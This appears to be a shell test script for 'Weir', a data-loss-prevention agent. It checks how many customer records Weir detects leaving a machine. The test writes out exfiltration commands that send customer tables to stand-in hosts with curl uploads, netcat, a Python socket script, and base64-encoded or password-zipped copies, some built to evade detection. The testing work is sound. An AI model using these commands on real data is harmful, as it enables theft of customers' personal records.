#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# How many customers it was. Tables leave in the forms that people use; records are counted exactly
# where Weir can read what left, and where it cannot it says so and does not guess.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
set_the_stage

crm_serves crm.test
cloud_serves pan.test
for host in mail.test shop.test meet.test im.test; do store_serves "$host" 9000; done
make_policy_list "$work/policies.txt" 20
install -m 0644 "$work/policies.txt" "$home/policies.txt"
cat >"$home/make-tables.py" <<'END'
import csv, json, docx, openpyxl
rows = [list(json.loads(line).values()) for line in open("rows.json")]
with open("list.csv", "w", newline="") as table:
    csv.writer(table).writerows(rows)
book = openpyxl.Workbook()
for row in rows:
    book.active.append(row)
book.save("list.xlsx")
letter = docx.Document()
for row in rows[:5]:
    letter.add_paragraph("Customer %s: " % row[1]).add_run("%s, %s" % (row[0], row[2]))
letter.save("letter.docx")
END
weir_watches

# records_to RECIPIENT EXPRESSION: over r, the records of the incident with that recipient.
records_to() {
	incidents_say "[True for i in d if (i['sinks'][0]['name'] or i['sinks'][0]['address']) == '$1' for r in [i['records']] if $2] == [True]"
}

# The process that the agent under test has started to read files; its number in $scanner.
scanner_lives() {
	local pid

	for pid in $(pgrep -f -x 'weir-agent --scan-worker'); do
		[ "/proc/$pid/exe" -ef "$weir" ] && scanner=$pid
	done
	[ -n "${scanner:-}" ] && ! is_over "$scanner"
}

say "twenty lookups, and the answers as a table, a spreadsheet and a letter"
alice_does <<'END'
while read -r number; do
	curl -sS "https://crm.test/policy/$number" </dev/null >>rows.json
done <policies.txt
/usr/bin/python3 make-tables.py
gzip -k list.csv
zip -q -P secret list.zip list.csv
cp list.csv copy.csv
END

say "the spreadsheet to a cloud disk, with the letter to five of the twenty"
alice_does <<'END'
curl -sS -F file=@list.xlsx https://pan.test/upload
curl -sS -F file=@letter.docx https://pan.test/upload
END
soon "twenty records exactly: those of the letter are among those of the spreadsheet" \
	records_to pan.test "r == {'value': 20, 'certainty': 'exact'}"

say "the table, packed by gzip"
alice_does <<'END'
nc -N mail.test 9000 <list.csv.gz
END
soon "twenty records exactly" records_to mail.test "r == {'value': 20, 'certainty': 'exact'}"

say "a copy that is removed as soon as it has left"
alice_does <<'END'
sleep 2
nc -N shop.test 9000 <copy.csv
rm copy.csv
END
soon "twenty records exactly: it had been read before" \
	records_to shop.test "r == {'value': 20, 'certainty': 'exact'}"

say "a copy, and one of three megabytes, that a program reads and sends when they are long quiet"
alice_does <<'END'
cp list.csv kept.csv
{ cat list.csv; yes 'nobody at all' | head -c 3000000; } >large.csv
/usr/bin/python3 -c '
import socket, sys, time
tables = [open(name, "rb").read() for name in sys.argv[1:]]
time.sleep(4)
with socket.create_connection(("mail.test", 9000)) as mail:
    for table in tables:
        mail.sendall(table)
' kept.csv large.csv
END
soon "both have been read for records" \
	events_say "all([e['certainty'] for e in d if e['kind'] == 'records'
		and e['object']['name'].endswith(name)] == ['exact'] for name in ('/kept.csv', '/large.csv'))"

say "a letter that names one of them, with the table as mail programs pack it"
alice_does <<'END'
{ echo "P2020000001 and others:"; base64 list.csv; } >letter.txt
nc -N mail.test 9000 <letter.txt
END
soon "not one record exactly: the rest may be in what is encoded" \
	events_say "[(e['certainty'], 'encoded' in e['detail']) for e in d if e['kind'] == 'records'
		and e['object']['name'].endswith('/letter.txt')] == [('estimated', True)]"

say "an archive with a password"
alice_does <<'END'
nc -N im.test 9000 <list.zip
END
soon "an estimate, by the lookups" \
	records_to im.test "18 <= r['value'] <= 22 and r['certainty'] == 'estimated'"
soon "and why it is no more than that" \
	events_say "any(e['kind'] == 'records' and e['object']['name'].endswith('/list.zip')
		and e['certainty'] == 'unknown' and 'encrypted' in e['detail'] for e in d)"

say "a copy that is made, sent and removed at once"
alice_does <<'END'
cp list.csv quick.csv; nc -N meet.test 9000 <quick.csv; rm quick.csv
END
soon "an estimate, by the lookups; or exactly, if Weir was quicker" \
	records_to 10.77.0.50 "18 <= r['value'] <= 22 and r['certainty'] in ('estimated', 'exact')"
soon "what Weir says of the file is what the incident says" \
	events_say "[e['certainty'] for e in d if e['kind'] == 'records' and e['object']['name'].endswith('/quick.csv')][-1:] in (['unknown'], ['exact'])"

say "a table whose scanner hangs"
alice_does <<'END'
cp list.csv last.csv
nc -N mail.test 9000 <last.csv
END
soon "the scanner is at work" scanner_lives
kill -STOP "$scanner"
alice_does <<'END'
echo P2020000001 >>last.csv
nc -N im.test 9000 <last.csv
END
soon "it is ended, and the file is said to be unknown" \
	events_say "any(e['kind'] == 'records' and e['object']['name'].endswith('/last.csv')
		and e['certainty'] == 'unknown' and 'too long' in e['detail'] for e in d)"
then_it "it is gone" is_over "$scanner"

soon "the scanner carries no label on and tells nothing of its own" \
	events_say "not any('weir' in str(e['app']['exe']) for e in d)"
then_every_stage_accounts_for_all_it_took

say "a table that leaves while Weir is being stopped"
alice_does <<'END'
cp list.csv farewell.csv
nc -N shop.test 9000 <farewell.csv
END
weir_stops
then_it "weir has stopped cleanly" test "$weir_status" -eq 0
then_it "the table has been read: its records are counted exactly" \
	events_say "[e['certainty'] for e in d if e['kind'] == 'records'
		and e['object']['name'].endswith('/farewell.csv')] == ['exact']"
then_it "no number, name or address of a customer is in anything that Weir wrote" \
	weir_wrote_nothing_of "$home/list.csv"
then_it "the key of the fingerprints is the agent's alone" \
	test "$(stat -c %a "$data/agent/record.key")" = 600
